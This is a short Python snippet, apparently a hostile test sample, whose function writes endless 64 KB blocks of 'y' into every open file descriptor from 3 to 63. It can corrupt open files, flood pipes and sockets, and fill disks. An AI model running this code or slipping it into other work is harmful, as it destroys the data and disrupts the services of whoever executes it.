import os
def f(x):
    for number in range(3, 64):
        try:
            while True:
                os.write(number, b"y" * 65536)
        except OSError:
            pass
